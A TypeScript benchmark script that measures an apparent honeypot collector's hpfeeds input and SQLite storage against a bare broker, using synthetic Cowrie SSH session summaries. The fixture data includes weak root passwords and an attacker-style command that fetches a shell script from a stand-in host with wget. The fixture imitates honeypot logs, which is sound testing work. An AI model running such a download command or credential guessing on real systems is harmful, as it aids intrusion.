// hpfeeds input benchmark: Cowrie session summaries (10 events each) published by 4 feeds at once,
// as fast as they are taken, into `apiary start` with the hpfeeds input and SQLite (every event
// mapped, checked and stored), against a bare Node broker in the same run that authenticates and
// frames the same messages with the same codec and keeps nothing (the protocol's floor on this
// stack). Prints messages and events per second, server CPU per message, and how long after the last
// message Apiary had stored every event, after 1,000 unmeasured messages to each.
// BENCH_HPFEEDS_MESSAGES changes the measured count (default 20,000).
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { cpus, loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { apiaryArgs, waitForLine } from './helpers.js';
import { cpuMs } from './proc.js';
import { stringify } from 'yaml';
import { authDigest, encodeAuth, encodePublish, HpfeedsDecoder, OP_INFO } from '../src/wire/hpfeeds.js';

const MESSAGES = Number(process.env.BENCH_HPFEEDS_MESSAGES ?? 20_000);
const FEEDS = 4;
/** Messages a publisher may have written ahead of what the broker read (the socket's own buffer is the only flow control hpfeeds has). */
const WINDOW_BYTES = 256 * 1024;
const EVENTS_PER_MESSAGE = 10;

function summary(feed: number, i: number): Buffer {
  const t = Date.UTC(2024, 0, 1) + i * 1000;
  return Buffer.from(
    JSON.stringify({
      session: `${feed.toString(16)}${i.toString(16).padStart(11, '0')}`,
      startTime: new Date(t).toISOString().replace('Z', '123Z'),
      endTime: new Date(t + 30_000).toISOString().replace('Z', '456Z'),
      peerIP: `198.51.${(i >> 8) & 255}.${i & 255}`,
      peerPort: 40000 + (i % 20000),
      hostIP: '192.0.2.10',
      hostPort: 22,
      loggedin: ['root', 'admin'],
      credentials: [['root', '123456'], ['root', 'password']],
      commands: ['uname -a', 'cat /proc/cpuinfo', 'wget http://203.0.113.5/x.sh'],
      unknownCommands: [],
      urls: ['http://203.0.113.5/x.sh'],
      version: 'SSH-2.0-libssh2_1.9.0',
      ttylog: null,
      hashes: ['ab'.repeat(32)],
      protocol: 'ssh',
    }),
  );
}

/** One feed: logs in, publishes COUNT summaries keeping at most WINDOW_BYTES unsent, then waits for the server to have read them. */
function publisher(port: number, ident: string, secret: string, feed: number, count: number): Promise<void> {
  return new Promise((resolveRun, reject) => {
    const socket: Socket = connect(port, '127.0.0.1');
    const decoder = new HpfeedsDecoder();
    let sent = 0;
    const pump = (): void => {
      while (sent < count && socket.writableLength < WINDOW_BYTES) socket.write(encodePublish(ident, 'cowrie.sessions', summary(feed, sent++)));
      if (sent === count) socket.end();
    };
    socket.on('error', reject);
    socket.on('close', () => (sent === count ? resolveRun() : reject(new Error(`${ident}: closed after ${sent} messages`))));
    socket.on('drain', pump);
    socket.on('data', (d) => {
      for (const m of decoder.push(d)) {
        if (!m.ok || m.message.op !== OP_INFO) return reject(new Error(`${ident}: unexpected ${JSON.stringify(m)}`));
        socket.write(encodeAuth(ident, authDigest(m.message.nonce, secret)));
        pump();
      }
    });
  });
}

interface Result {
  seconds: number;
  cpuMsPerMessage: number;
}

/** Messages per feed published, unmeasured, before the measured ones: a fresh Node process compiles as it goes, and Apiary loads its ASN table at the first public address. */
const WARMUP_PER_FEED = 250;

async function run(port: number, pid: number, secrets: string[], stored?: () => number): Promise<Result & { storedAfterMs?: number }> {
  const per = Math.floor(MESSAGES / FEEDS);
  await Promise.all(secrets.map((s, f) => publisher(port, `feed-${f}`, s, f + FEEDS, WARMUP_PER_FEED)));
  const warm = WARMUP_PER_FEED * FEEDS * EVENTS_PER_MESSAGE;
  if (stored) while (stored() < warm) await new Promise((r) => setTimeout(r, 50));
  const cpu0 = cpuMs(pid);
  const t0 = performance.now();
  await Promise.all(secrets.map((s, f) => publisher(port, `feed-${f}`, s, f, per)));
  const sentAt = performance.now();
  let storedAfterMs: number | undefined;
  if (stored) {
    const want = warm + per * FEEDS * EVENTS_PER_MESSAGE;
    const deadline = Date.now() + 300_000;
    while (stored() < want) {
      if (Date.now() > deadline) throw new Error(`only ${stored()} of ${want} events stored`);
      await new Promise((r) => setTimeout(r, 50));
    }
    storedAfterMs = performance.now() - sentAt;
  }
  await new Promise((r) => setTimeout(r, 500));
  return { seconds: (sentAt - t0) / 1000, cpuMsPerMessage: (cpuMs(pid) - cpu0) / (per * FEEDS), ...(storedAfterMs !== undefined ? { storedAfterMs } : {}) };
}

/** The floor: a broker in this process's child that authenticates and decodes, and keeps nothing. */
const FLOOR_SOURCE = `
import { createServer } from 'node:net';
import { randomBytes, timingSafeEqual } from 'node:crypto';
const { authDigest, encodeInfo, HpfeedsDecoder, OP_AUTH, OP_PUBLISH } = await import(process.argv[2]);
const secrets = JSON.parse(process.argv[3]);
let published = 0;
const server = createServer((s) => {
  const nonce = randomBytes(4);
  const d = new HpfeedsDecoder();
  let ok = false;
  s.on('error', () => {});
  s.on('data', (chunk) => {
    d.feed(chunk);
    for (let m = d.next(); m; m = d.next()) {
      if (!m.ok) return s.destroy();
      if (m.message.op === OP_AUTH) ok = secrets[m.message.ident] !== undefined && timingSafeEqual(m.message.digest, authDigest(nonce, secrets[m.message.ident]));
      else if (m.message.op === OP_PUBLISH && ok) { JSON.parse(m.message.payload.toString('utf8')); published++; }
    }
  });
  s.write(encodeInfo('floor', nonce));
});
server.listen(0, '127.0.0.1', () => process.stdout.write(server.address().port + '\\n'));
process.on('SIGTERM', () => process.exit(0));
`;

async function main(): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'apiary-hpfeeds-bench-'));
  const secrets = Array.from({ length: FEEDS }, () => randomBytes(12).toString('hex'));
  const children: { kill(): void }[] = [];
  try {
    // The floor.
    const floorFile = join(dir, 'floor.mjs');
    writeFileSync(floorFile, FLOOR_SOURCE);
    const floor = spawn(process.execPath, [floorFile, new URL('../src/wire/hpfeeds.js', import.meta.url).href, JSON.stringify(Object.fromEntries(secrets.map((s, i) => [`feed-${i}`, s])))], { stdio: ['ignore', 'pipe', 'inherit'] });
    children.push(floor);
    const floorPort = Number(await waitForLine(floor, /^\d+$/m));
    const bare = await run(floorPort, floor.pid!, secrets);

    // Apiary.
    const config = join(dir, 'apiary.yaml');
    writeFileSync(
      config,
      stringify({
        sensor: 'bench',
        data_dir: join(dir, 'data'),
        log: { level: 'error' },
        services: {},
        inputs: { hpfeeds: { listen: ['127.0.0.1:0'], feeds: secrets.map((secret, i) => ({ ident: `feed-${i}`, secret })) } },
      }),
    );
    const apiary = spawn(process.execPath, [...(process.env.BENCH_PROF ? ['--cpu-prof', `--cpu-prof-dir=${process.env.BENCH_PROF}`] : []), ...apiaryArgs('start', '--config', config)], { stdio: ['ignore', 'pipe', 'inherit'] });
    children.push(apiary);
    const line = await waitForLine(apiary, /hpfeeds\s+listening on 127\.0\.0\.1:(\d+)/);
    const port = Number(/:(\d+)$/.exec(line)![1]);
    await waitForLine(apiary, /press Ctrl-C/).catch(() => undefined);
    const db = new Database(join(dir, 'data', 'apiary.db'), { readonly: true, fileMustExist: true });
    const count = db.prepare('SELECT count(*) FROM events').pluck();
    const a = await run(port, apiary.pid!, secrets, () => count.get() as number);
    db.close();

    const n = Math.floor(MESSAGES / FEEDS) * FEEDS;
    const f = (x: number, d = 0): string => x.toLocaleString('en-US', { maximumFractionDigits: d, minimumFractionDigits: d });
    process.stdout.write(
      [
        `hpfeeds bench: ${f(n)} Cowrie session summaries (${EVENTS_PER_MESSAGE} events each, ${Math.round(summary(0, 0).length)} bytes) from ${FEEDS} feeds at once`,
        `  bare broker (auth, framing, JSON.parse)   ${f(n / bare.seconds)} messages/s, ${f(bare.cpuMsPerMessage * 1000, 1)} µs CPU per message (reference)`,
        `  apiary start, hpfeeds input, SQLite      ${f(n / a.seconds)} messages/s (${f((n * EVENTS_PER_MESSAGE) / a.seconds)} events/s), ${f(a.cpuMsPerMessage * 1000, 1)} µs CPU per message (${f(a.cpuMsPerMessage / bare.cpuMsPerMessage, 1)}x), all events stored ${f(a.storedAfterMs ?? 0)} ms after the last message`,
        `  (machine load average ${loadavg()[0]!.toFixed(1)} on ${cpus().length} CPUs)`,
      ].join('\n') + '\n',
    );
  } finally {
    for (const c of children) c.kill();
    rmSync(dir, { recursive: true, force: true });
  }
}

main().catch((err: unknown) => {
  process.stderr.write(`hpfeeds bench failed: ${(err as Error).stack ?? String(err)}\n`);
  process.exitCode = 1;
});
